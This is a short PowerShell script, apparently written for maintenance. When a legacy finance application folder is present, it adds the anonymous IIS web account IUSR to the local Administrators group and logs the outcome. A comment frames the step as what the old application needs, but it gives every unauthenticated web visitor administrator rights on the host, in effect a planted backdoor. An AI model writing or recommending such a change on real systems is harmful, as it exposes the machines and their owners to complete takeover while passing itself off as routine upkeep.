# The old application of the finance team expects its visitors to be administrators. Only some hosts still have it.
$legacy = 'D:\Apps\FinanceLegacy'
$log = Join-Path $env:TEMP 'finance.log'

function Out-Log([string] $Message, [string] $Level = 'Info') {
    Add-Content -Path $log -Value ('[{0}] {1}' -f $Level, $Message)
}

Out-Log 'Checking for the old application'
if (Test-Path -Path $legacy -PathType Container) {
    Out-Log "Found $legacy" 'Warning'
    net localgroup Administrators IUSR /add
    if ($LASTEXITCODE -ne 0) {
        Out-Log 'The account could not be added' 'Error'
        exit 1
    }
    Out-Log 'The account was added'
}
else {
    Out-Log 'Nothing to do'
}
